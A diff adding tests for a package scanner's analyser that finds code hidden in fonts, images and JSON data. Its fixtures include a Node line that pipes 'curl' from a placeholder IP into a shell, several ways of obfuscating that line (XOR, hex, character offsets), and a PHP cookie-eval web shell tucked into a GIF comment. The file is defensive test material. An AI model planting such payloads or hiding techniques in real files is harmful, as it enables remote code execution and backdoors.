@@ -1,0 +1,60 @@
+"""Code that pictures, fonts, translations and tables of numbers carry."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from beartrap.model.place import Place
+from beartrap.vet.analyser import FileSubject
+from beartrap.vet.behaviour import Behaviour
+from beartrap.vet.binary.carried import CarriedAnalyser
+from beartrap.vet.facts import PackageFacts
+from beartrap.vet.kinds import Kind
+
+CODE = b"require('child_process').exec('curl -s http://192.0.2.9/f|sh')"
+NOISE = bytes((number * 73 + 41) % 251 for number in range(300))
+
+
+def found(content: bytes, kind: Kind) -> list[Behaviour]:
+    one = FileSubject(Place("pkg", path=b"a"), "a", content, kind, "0" * 64, PackageFacts())
+    return [seen for seen in CarriedAnalyser().look(one) if isinstance(seen, Behaviour)]
+
+
+@given(st.binary(min_size=1, max_size=6).filter(any), st.sampled_from([Kind.FONT, Kind.IMAGE, Kind.DATA]))
+def test_code_under_a_short_key(key: bytes, kind: Kind) -> None:
+    hidden = bytes(one ^ key[place % len(key)] for place, one in enumerate(CODE))
+    (one,) = found(NOISE + hidden + NOISE, kind)
+    assert "192.0.2.9" in one.layers[0].text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"era": "' + "".join(chr(one + 0x3041 - 9) for one in CODE) + '"}',
+        '{"points": [' + ", ".join(str(one) for one in CODE) + "]}",
+        '{"points": [' + ", ".join(str(one ^ 0x5C) for one in CODE) + "]}",
+        '{"digest": "' + bytes(one ^ 7 for one in CODE).hex() + '"}',
+    ],
+)
+def test_code_in_text_that_looks_like_none(text: str) -> None:
+    (one,) = found(text.encode(), Kind.JSON)
+    assert "192.0.2.9" in one.layers[0].text
+
+
+def test_a_script_in_the_comment_of_a_picture() -> None:
+    (one,) = found(b"GIF89a\x10\0\x10\0\x80\0\0!\xfe\x30<?php $k=$_COOKIE['r'];eval($k); ?>\0;", Kind.IMAGE)
+    assert "$_COOKIE" in one.quote
+
+
+@pytest.mark.parametrize(
+    ("content", "kind"),
+    [
+        (NOISE * 40, Kind.DATA),
+        (b"GIF89a" + NOISE + b"<?xpacket begin='' ?><x:xmpmeta>a picture</x:xmpmeta>" + NOISE, Kind.IMAGE),
+        ("{\"word\": \"" + "".join(chr(0x3041 + number % 80) for number in range(200)) + "\"}", Kind.JSON),
+        ('{"points": [' + ", ".join(str(number % 256) for number in range(400)) + "]}", Kind.JSON),
+        ('{"say": "run child_process with care", "sha256": "' + "ab" * 32 + '"}', Kind.JSON),
+    ],
+)  # fmt: skip
+def test_data_that_are_data(content: bytes | str, kind: Kind) -> None:
+    assert not found(content.encode() if isinstance(content, str) else content, kind)
